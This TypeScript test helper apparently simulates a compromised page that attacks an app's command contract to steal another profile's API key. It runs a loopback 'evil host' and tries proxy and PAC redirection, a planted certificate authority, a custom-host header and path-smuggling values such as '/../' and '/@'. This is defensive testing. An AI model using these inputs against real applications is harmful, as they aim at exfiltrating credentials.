/**
 * A page that an attacker has whole: it calls every command of the contract, in any order, with whatever the schemas
 * take, and knows all that a page is told. What it wants is the key of a profile that is not its own.
 */
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { z } from 'zod';
import { commands } from '../../shared/contract';
import type { Envelope } from '../../shared/errors';
import { defaultConnection, defaultNetwork } from '../../shared/profiles/defaults';
import type { Snapshot } from '../../shared/reports';
import { authority } from './company-certificates';

export type Call = (calls: readonly AttackCall[]) => Promise<readonly Envelope<unknown>[]>;
export interface AttackCall {
  readonly name: string;
  readonly input: unknown;
}

export interface EvilHost {
  readonly port: number;
  /** Every byte that arrived, through a proxied connection too. */
  received(): string;
  close(): Promise<void>;
}

/** A gateway, a proxy, and a place for proxy scripts and results, all of the attacker. */
export async function startEvilHost(): Promise<EvilHost> {
  let received = '';
  const open = new Set<Socket>();
  const server = createServer((socket) => {
    open.add(socket);
    socket.on('close', () => open.delete(socket)).on('error', () => socket.destroy());
    socket.on('data', (bytes) => {
      const text = bytes.toString('latin1');
      received += text;
      if (text.startsWith('CONNECT '))
        return void socket.write('HTTP/1.1 200 Connection established\r\n\r\n');
      const body = text.includes('.pac')
        ? `function FindProxyForURL() { return "PROXY 127.0.0.1:${portOf()}" }`
        : '{"data":[{"id":"a/model"}]}';
      socket.end(
        `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
      );
    });
  });
  const portOf = () => (server.address() as AddressInfo).port;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: portOf(),
    received: () => received,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        for (const socket of open) socket.destroy();
      }),
  };
}

/** Drawn for any profile, these would only take the key away and end the attack: {@link takeover} plays them. */
const pointless = ['profiles.remove', 'profiles.removeKey', 'profiles.saveKey', 'profiles.update'];
const names = Object.keys(commands).filter((name) => !pointless.includes(name));

/** Numbers from 0 to 1, the same for each seed. */
export function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

type Shape = z.core.JSONSchema.BaseSchema;

/** Values of a schema's shape, from texts that an attacker would try. */
function createMaker(texts: readonly string[], random: () => number) {
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
  const number = ({ minimum = 0, maximum = 2 }: Shape) =>
    Math.max(Number(minimum), Math.min(2, Number(maximum)));
  const text = ({ format }: Shape) => (format === 'uuid' ? crypto.randomUUID() : pick(texts));
  const makers: Readonly<Record<string, (shape: Shape) => unknown>> = {
    string: text,
    boolean: () => random() < 0.5,
    integer: number,
    number,
    null: () => null,
    array: ({ items }) => (random() < 0.5 ? [] : [make((items ?? {}) as Shape)]),
    object: makeObject,
  };
  function makeObject({ properties = {}, required = [], additionalProperties: more }: Shape): unknown {
    const fields = Object.entries(properties as Record<string, Shape>);
    if (typeof more === 'object' && fields.length === 0) return { [pick(texts)]: make(more as Shape) };
    const given = fields.filter(([field]) => required.includes(field) || random() < 0.4);
    return Object.fromEntries(given.map(([field, inner]) => [field, make(inner)]));
  }
  function make(shape: Shape): unknown {
    const variants = shape.anyOf ?? shape.oneOf;
    if (variants) return make(pick(variants) as Shape);
    if (shape.const !== undefined) return shape.const;
    if (shape.enum) return pick(shape.enum);
    return makers[String(shape.type)]?.(shape) ?? pick([...texts, 1, null]);
  }
  return make;
}

/** An input that the schema of a command takes, more often than not. */
export function inputFor(name: string, texts: readonly string[], random: () => number): unknown {
  const { input } = commands[name as keyof typeof commands];
  const shape = z.toJSONSchema(input, { io: 'input', unrepresentable: 'any' });
  return createMaker(texts, random)(shape as Shape);
}

export interface AttackOptions {
  readonly call: Call;
  /** The profile whose key the attacker wants. */
  readonly victimId: string;
  /** Another profile with a key, which the attack may take away. */
  readonly sacrificeId: string;
  readonly evilPort: number;
  readonly seed: number;
  readonly rounds: number;
}

/**
 * Attacks, and uses the victim's profile after each round, so that a change that took hold shows.
 * @returns all that the page was answered
 */
export async function attackContract(options: AttackOptions): Promise<string> {
  const { call, victimId, sacrificeId, evilPort, seed, rounds } = options;
  const random = randomOf(seed);
  const evil = `http://127.0.0.1:${evilPort}`;
  let heard = '';
  const say = async (calls: readonly AttackCall[]) => {
    const answers = await call(calls);
    heard += JSON.stringify(answers);
    return answers;
  };
  const [created] = await say([
    {
      name: 'profiles.create',
      input: { name: 'Planted', baseUrl: `${evil}/v1`, key: 'planted', keep: 'session' },
    },
  ]);
  const planted = created?.ok ? (created.value as { id: string }).id : '';
  const use = callsWith(victimId);
  for (const one of plans(victimId, evil)) await say([one, ...use]);
  const known = [victimId, planted, 'a/model', evil, `${evil}/v1`, `${evil}/x.pac`, `127.0.0.1:${evilPort}`];
  for (let round = 0; round < rounds; round += 1) {
    const texts = [...known, ...(await idsOf(say)), authority.cert, 'planted', '', 'x'];
    const calls = Array.from({ length: 15 }, () => {
      const name = names[Math.floor(random() * names.length)] as string;
      return { name, input: inputFor(name, texts, random) };
    });
    await say(calls);
    await say(use);
  }
  for (const one of takeover(sacrificeId, evil)) {
    await say([one]);
    await say(callsWith(sacrificeId));
  }
  await say([{ name: 'profiles.test', input: { id: planted } }]);
  await say([
    { name: 'app.snapshot', input: {} },
    { name: 'inspector.export', input: { ids: null, format: 'har' } },
  ]);
  return heard;
}

const callsWith = (id: string): readonly AttackCall[] => [
  { name: 'profiles.activate', input: { id } },
  { name: 'profiles.test', input: { id } },
  { name: 'models.refresh', input: {} },
];

/** Moves a profile with its key, and puts another key or profile in its place. */
function takeover(id: string, evil: string): readonly AttackCall[] {
  const move = (baseUrl: string) => ({ name: 'profiles.update', input: { id, baseUrl } });
  const proxy = { kind: 'fixed', url: evil, username: null };
  return [
    { name: 'profiles.saveKey', input: { id, key: '', keep: 'session' } },
    { name: 'network.save', input: { profileId: id, network: { ...defaultNetwork, proxy } } },
    move(`${evil}/v1`),
    { name: 'profiles.saveKey', input: { id, key: 'planted', keep: 'session' } },
    { name: 'profiles.removeKey', input: { id } },
    { name: 'network.save', input: { profileId: id, network: { ...defaultNetwork, proxy } } },
    { name: 'profiles.remove', input: { id } },
    { name: 'profiles.saveKey', input: { id, key: 'planted', keep: 'session' } },
  ];
}

/**
 * What every call would take, read from what a page is shown: a request to loopback, as in a test, takes no proxy of all
 * profiles, so where its bytes go proves nothing of those.
 */
export function waysOf({ settings }: Snapshot, profileId: string): string {
  return JSON.stringify([settings.network, settings.networks[profileId] ?? null]);
}

/** What an attacker would try first, who has read the contract. */
function plans(id: string, evil: string): readonly AttackCall[] {
  const proxy = { kind: 'fixed', url: evil, username: null };
  const script = { kind: 'pac', url: `${evil}/x.pac` };
  const authorities = { name: 'evil.pem', pem: authority.cert };
  const networks = [{ proxy }, { proxy: script }, { proxy, authorities }].map((part) => ({
    ...defaultNetwork,
    ...part,
  }));
  const headers = [{ name: 'x-portkey-custom-host', isSecret: false, value: evil }];
  return [
    ...networks.flatMap((network) => [
      { name: 'network.save', input: { profileId: null, network } },
      { name: 'network.save', input: { profileId: id, network, keys: ['planted'], keep: 'session' } },
      { name: 'settings.update', input: { patch: { network, networks: { [id]: network } } } },
    ]),
    { name: 'network.save', input: { profileId: id, network: null } },
    { name: 'profiles.allowResults', input: { id, host: evil.replace('http://', ''), isAllowed: true } },
    { name: 'profiles.allowJobs', input: { id, origin: new URL(evil).origin, isAllowed: true } },
    {
      name: 'profiles.allowJobs',
      input: { id, origin: new URL(evil).origin, isAllowed: true, keys: ['planted'] },
    },
    { name: 'settings.update', input: { patch: { jobOrigins: { [id]: [new URL(evil).origin] } } } },
    { name: 'profiles.saveConnection', input: { id, connection: { ...defaultConnection, headers } } },
    ...['~//', '//', '/../', '/@'].map((path) => ({
      name: 'profiles.saveConnection',
      input: { id, connection: { ...defaultConnection, paths: { models: path + evil.slice(7) } } },
    })),
    { name: 'backups.create', input: {} },
  ];
}

async function idsOf(say: (calls: readonly AttackCall[]) => Promise<readonly Envelope<unknown>[]>) {
  const [answer] = await say([{ name: 'app.snapshot', input: {} }]);
  if (!answer?.ok) return [];
  const { conversations, jobs, presets } = answer.value as Snapshot;
  return [...conversations.conversations, ...jobs.jobs, ...presets].map(({ id }) => id).slice(0, 10);
}

/** Each form in which a key could leave: as it is, in Base64 at each offset, in hexadecimal, and backwards. */
export function formsOf(key: string): readonly string[] {
  const base64 = ['', 'a', 'ab'].map((before) =>
    Buffer.from(`${before}${key}`).toString('base64').slice(4, -4),
  );
  return [key, ...base64, Buffer.from(key).toString('hex'), [...key].reverse().join('')];
}
